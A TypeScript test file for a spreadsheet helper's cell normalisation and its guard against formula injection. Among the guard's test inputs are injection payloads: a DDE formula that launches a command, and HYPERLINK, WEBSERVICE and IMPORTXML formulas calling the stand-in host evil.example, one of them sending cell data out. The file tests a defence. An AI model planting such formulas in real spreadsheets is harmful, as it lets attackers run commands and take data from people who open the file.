import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { cleanCell } from '#shared/files/cleanCell.ts'
import type { CellKind } from '#shared/files/cleanCell.ts'
import { guardFormula, unguardFormula } from '#shared/files/formulaGuard.ts'

describe('값 정리', () => {
  it.each<[CellKind, string, string, string[]]>([
    ['invoice', '584012345678', '584012345678', []],
    ['invoice', '5840-1234-5678', '584012345678', ['HYPHEN']],
    ['invoice', " '5840 1234 5678\u200b", '584012345678', ['INVISIBLE', 'SPACE', 'APOSTROPHE']],
    ['invoice', '５８４０１２３４５６７８', '584012345678', ['FULL_WIDTH']],
    ['invoice', '0012345678', '0012345678', []],
    ['phone', '010-1234-5678', '01012345678', ['HYPHEN']],
    ['phone', "'+82 10-1234-5678", '01012345678', ['APOSTROPHE', 'HYPHEN']],
    ['phone', '문앞에 놓아 주세요', '문앞에 놓아 주세요', []],
    ['identifier', '20260701－0001', '20260701-0001', ['FULL_WIDTH']],
    ['identifier', '\u00a0A-1\u3000', 'A-1', ['SPACE']],
    ['text', ' 서울\u00a0강남구\n101호 ', '서울 강남구\n101호', ['SPACE']],
    ['text', "'=1+1", '=1+1', ['APOSTROPHE']],
    ['text', "'90년대", "'90년대", []],
    ['integer', '1,000', '1000', ['NUMBER_MARK']],
    ['integer', '₩12,900원', '12900', ['NUMBER_MARK']],
    ['integer', '００１', '001', ['FULL_WIDTH']],
    ['integer', '-5', '-5', []],
    ['integer', '', '', []],
  ])('%s %j은 %j이 된다', (kind, raw, value, changes) => {
    expect(cleanCell(raw, kind)).toEqual({ value, changes })
  })

  it.each(['5.84012E+11', '5.84012345678e+11', '6E11', '６.０１E+11', "'5.84012E+11 "])(
    '엑셀이 망가뜨린 숫자 %s은 추측하지 않는다',
    (raw) => {
      for (const kind of ['invoice', 'identifier', 'phone'] as const) {
        expect(cleanCell(raw, kind)).toMatchObject({ value: raw, problem: { code: 'NUMBER_DAMAGED' } })
      }
      expect(cleanCell(raw, 'text').problem).toBeUndefined()
    },
  )

  it.each(['26112712E45678', '2611270E', 'C2611271E234567', '12E5'])('코드 %s은 망가진 숫자가 아니다', (raw) => {
    expect(cleanCell(raw, 'identifier')).toEqual({ value: raw, changes: [] })
  })

  it.each(['1.000,00', '1,00', '12a', '1.5', '열 개', '--1'])('숫자 칸의 %s은 거절한다', (raw) => {
    expect(cleanCell(raw, 'integer').problem?.code).toBe('NUMBER_FORMAT')
  })

  it('정리한 값을 다시 정리해도 그대로다', () => {
    const kinds = fc.constantFrom<CellKind>('text', 'identifier', 'invoice', 'phone', 'integer')
    const text = fc.string({ unit: fc.constantFrom(..." -'=+1０E.,－가a\u00a0\u200b\n₩".split('')), maxLength: 10 })
    fc.assert(
      fc.property(text, kinds, (raw, kind) => {
        const once = cleanCell(raw, kind)
        fc.pre(!once.problem && kind !== 'text')
        const twice = cleanCell(once.value, kind)
        expect(twice.problem ? once.value : twice.value).toBe(once.value)
      }),
      { numRuns: 2000 },
    )
  })
})

describe('수식 막기', () => {
  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r',
    '\n가',
    '＝1',
    '＋1',
    '－1',
    '＠a',
    '  =1',
    '\u00a0=1',
    '\u3000+1',
    '\ufeff=1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","눌러 보세요")',
    '=WEBSERVICE("http://evil.example/?"&A1)',
    '=IMPORTXML("http://evil.example","//a")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=1+1",
    "''  =1",
    '+821012345678',
    '-5,000',
  ])('%j 앞에는 작은따옴표를 붙인다', (text) => {
    expect(guardFormula(text)).toBe(`'${text}`)
    expect(unguardFormula(guardFormula(text))).toBe(text)
  })

  it('칸 안의 줄바꿈 뒤에 오는 수식도 막는다', () => {
    expect(guardFormula('\n=1')).toBe("'\n'=1")
    expect(guardFormula('메모\n=1+1\r\n @a\n정상')).toBe("메모\n'=1+1\r\n' @a\n정상")
  })

  it.each(['홈핏', '1+1', 'a=b', '2026-07-01', "'90년대", '', '010-1234-5678', 'a@b.kr'])(
    '%j은 그대로 둔다',
    (text) => {
      expect(guardFormula(text)).toBe(text)
      expect(unguardFormula(text)).toBe(text)
    },
  )

  it('어떤 글이든 막았다가 풀면 처음 글이고, 막은 글은 수식으로 시작하지 않는다', () => {
    const unit = fc.constantFrom(..."'=+-@＝＋－＠ \u00a0\t\r\n가a1\ufeff".split(''))
    fc.assert(
      fc.property(fc.string({ unit, maxLength: 14 }), (text) => {
        const guarded = guardFormula(text)
        expect(unguardFormula(guarded)).toBe(text)
        expect(guarded).not.toMatch(/^[\s\ufeff]*[=+\-@＝＋－＠]/)
        expect(guarded).not.toMatch(/[\r\n][ \u00a0\ufeff]*[=+\-@＝＋－＠]/)
      }),
      { numRuns: 5000 },
    )
  })
})
